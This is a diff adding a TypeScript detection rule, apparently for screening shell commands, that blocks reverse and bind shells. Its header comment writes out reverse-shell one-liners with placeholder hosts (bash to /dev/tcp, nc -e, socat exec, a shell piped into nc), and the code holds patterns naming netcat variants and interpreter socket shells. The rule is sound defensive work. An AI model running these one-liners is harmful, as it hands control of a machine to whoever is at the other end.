@@ -1,0 +1,40 @@
+// A shell wired to a network socket hands the machine to whoever is on the other end:
+// `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh host port`, `socat exec:sh tcp:…`,
+// `sh -i | nc host port`, python/perl socket + dup2/pty.spawn.
+import { defineRule } from "../../engine/rule.js";
+import { shellOf } from "../../analysis/shell/index.js";
+import { describe } from "../../analysis/shell/commands.js";
+import { SHELLS } from "../../analysis/shell/unwrap.js";
+
+const NETCATS = new Set(["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "openssl"]);
+
+export default defineRule({
+  meta: {
+    id: "remote-exec/reverse-shell",
+    description: "Blocks reverse and bind shells: a shell redirected to /dev/tcp, nc -e, socat exec:, a shell piped into nc, interpreter socket shells.",
+    defaultAction: "block",
+    kinds: ["shell"],
+  },
+  check(call) {
+    const analysis = shellOf(call);
+    if (!analysis) return null;
+    const hit = (what: string) => ({ reason: `${what} connects a shell to a network socket, handing control of the machine to the other end. Do not run it.` });
+    for (const cmd of analysis.commands) {
+      const p = cmd.program;
+      if ((SHELLS.has(p) || /^(python[0-9.]*|perl|ruby|php)$/.test(p) || p === "exec" || p === "") && cmd.redirects.some((r) => /^\/dev\/(tcp|udp)\//.test(r.target))) return hit(describe(cmd));
+      if (NETCATS.has(p)) {
+        if (cmd.args.some((a) => a === "-e" || a === "-c" || a === "--exec" || a === "--sh-exec" || a === "--lua-exec" || /^-[a-zA-Z]*e$/.test(a))) return hit(describe(cmd));
+        if (p === "socat" && cmd.args.some((a) => /^(exec|system):/i.test(a))) return hit(describe(cmd));
+      }
+      // sh -i | nc host port (and the mkfifo variant): a shell and a netcat in one pipeline.
+      if (NETCATS.has(p) && cmd.pipeline.length > 1) {
+        const same = analysis.commands.filter((c) => c.pipeline.id === cmd.pipeline.id);
+        if (same.some((c) => SHELLS.has(c.program) && c !== cmd)) return hit(describe(cmd));
+      }
+    }
+    for (const code of analysis.inlineCode) {
+      if (/\bsocket\b/i.test(code.code) && /\b(?:dup2|pty\.spawn|subprocess\.call\(\s*\[?\s*['"]\/bin\/(?:ba)?sh|exec\s*\(\s*['"]\/bin\/(?:ba)?sh|\/bin\/sh\s+-i|spawn\(\s*['"]\/bin\/(?:ba)?sh)/.test(code.code)) return hit(describe(code.command));
+    }
+    return null;
+  },
+});
